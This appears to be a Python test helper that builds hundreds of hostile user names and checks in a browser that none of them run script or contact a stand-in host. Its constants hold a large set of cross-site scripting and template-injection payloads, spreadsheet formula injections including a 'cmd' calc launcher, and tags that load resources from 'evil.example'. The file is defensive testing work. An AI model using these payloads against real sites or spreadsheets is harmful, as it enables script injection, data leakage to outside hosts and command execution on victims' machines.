"""Names that people can give themselves, a badge or a reward, each made to run, to call, or to be counted by a
spreadsheet wherever it is not kept as text. Name number n calls ``ran(n)``; ``EVIL`` is whom some of them ask.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from typing import Any

from tests.browser.chromium import Page

SEED = 20261128
COUNT = 500
EVIL = "evil.example"
LONG = 4000
# Out of whatever text, attribute, comment, script, style, template or JSON the name stands in.
BREAKS = (
    "", '"', "'", '">', "'>", "\\\"", "\\'", "`", "-->", "]]>", "*/", "</title>", "</textarea>", "</script>",
    "</style>", "</template>", "</noscript>", "</option></select>", "</svg>", "&quot;>", "&#34;&#62;", "%22%3E",
    "\\u0022\\u003e", '"}]}</script>', "');", "\n", "\r\n\r\n", "{{", "{%", "<%=", "${", "<?php ",
)  # fmt: skip
RUNS = (
    "<script>ran(N)</script>", "<img src=x onerror=ran(N)>", "<svg onload=ran(N)>",
    "<svg><script>ran(N)</script></svg>",
    "<svg><animate onbegin=ran(N) attributeName=x dur=1s>", "<details open ontoggle=ran(N)>",
    "<input autofocus onfocus=ran(N)>", "<video><source onerror=ran(N)>", "<style onload=ran(N)></style>",
    "<iframe srcdoc='<script>parent.ran(N)</script>'></iframe>", "<iframe src=javascript:parent.ran(N)></iframe>",
    "<a href=javascript:ran(N)>ran(N)</a>", "<math><mtext><table><mglyph><style><img src=x onerror=ran(N)>",
    " autofocus onfocus=ran(N) onmouseover=ran(N) x=", "<body onload=ran(N)>", "<object data=javascript:ran(N)>",
    "<img src=//EVIL/ran(N)>", "<link rel=stylesheet href=//EVIL/ran(N)>", "<style>@import '//EVIL/ran(N)'</style>",
    "<meta http-equiv=refresh content='0;url=//EVIL/ran(N)'>", "<base href=//EVIL/ran(N)/>",
    "<form action=//EVIL/ran(N)><button>go</button></form>", "<script src=//EVIL/ran(N)></script>",
    ";ran(N)//", "-ran(N)-", "+ran(N)+", "${ran(N)}", "}}ran(N){{", "{{constructor.constructor('ran(N)')()}}",
    "{{ran(N)|safe}}", "{%raw%}ran(N)", "<%=ran(N)%>", "\\u003cimg src=x onerror=ran(N)\\u003e", "javascript:ran(N)",
    "&lt;img src=x onerror=ran(N)&gt;", "%3Cscript%3Eran(N)%3C/script%3E", "__proto__ ran(N)", "alert('ran(N)')",
)  # fmt: skip
FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "=HYPERLINK(", "=cmd|' /C calc'!A0", "-2+3+cmd|", "@SUM(", "\uff1d", "")
# Other directions, no width, nothing, half a pair, what nobody can type.
WRAPS = ("", "\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\u00ad", "\x00", "\x1b[31m", "e\u0301\u0323\u0330",
         "\U0001f469\u200d\U0001f680", "\u2028")  # fmt: skip
HEARD = """
window.ran = (number) => { (top.belongRan ??= []).push(number); };
window.print = () => window.ran('print');
"""
PROVOKED = """
(() => {
  const pages = [document, ...[...document.querySelectorAll('iframe')].map((one) => one.contentDocument)];
  const wrong = [];
  for (const page of pages.filter((one) => one !== null)) {
    for (const one of page.querySelectorAll('*')) {
      for (const event of ['mouseover', 'focus', 'toggle', 'begin']) one.dispatchEvent(new Event(event));
      for (const { name, value } of one.attributes) {
        const runs = name.startsWith('on') || /^\\s*javascript:/i.test(value);
        const asks = /^(https?:)?\\/\\/EVIL/.test(value);
        if ((runs && value.includes('ran(')) || asks) wrong.push(one.outerHTML.slice(0, 200));
      }
    }
  }
  const said = pages.map((one) => one ? one.documentElement.textContent : '').join(' ');
  const read = [...said.matchAll(/ran\\((\\d+)\\)/g)].map((one) => Number(one[1]));
  return { wrong, ran: window.belongRan ?? [], said: read };
})()
""".replace("EVIL", EVIL.replace(".", "\\\\."))


def hostile_names(count: int = COUNT, seed: int = SEED) -> list[str]:
    """So many, every way to run among them, mixed by the seed; some very long."""
    chance = random.Random(seed)
    names = []
    for number in range(count):
        run = RUNS[number % len(RUNS)].replace("(N)", f"({number})").replace("EVIL", EVIL)
        wrap, long = chance.choice(WRAPS), "W" * LONG if number % 50 == 49 else ""
        names.append(f"{chance.choice(FORMULAS)}{chance.choice(BREAKS)}{wrap}{run}{wrap}{long}")
    return names


def written_over(part: Any, names: Sequence[str], keys: frozenset[str], at: int = 0) -> tuple[Any, int]:
    """The same with every text under these keys in the place of the next name; and how many names were used."""
    if isinstance(part, dict):
        made = {}
        for key, one in part.items():
            if key in keys and isinstance(one, str):
                made[key], at = names[at % len(names)], at + 1
            else:
                made[key], at = written_over(one, names, keys, at)
        return made, at
    if isinstance(part, list):
        listed = []
        for one in part:
            new, at = written_over(one, names, keys, at)
            listed.append(new)
        return listed, at
    return part, at


async def provoked(page: Page, address: str) -> dict[str, list[Any]]:
    """Opened, and every element told what a person does to it. ran: numbers of names; wrong: elements that would run or
    ask somebody; said: numbers of names that can be read.
    """
    await page.tab.add_init_script(HEARD)
    await page.go(address)
    await page.run("new Promise((done) => setTimeout(done, 300))")
    return dict(await page.run(PROVOKED))


async def must_run_nowhere(page: Page, address: str) -> set[int]:
    """Nothing of it ran or called. Returns the numbers of the names that can be read."""
    found = await provoked(page, address)
    assert (found["ran"], found["wrong"], page.dialogs) == ([], [], []), address
    assert [one for one in page.foreign if EVIL in one] == [], address
    return set(found["said"])
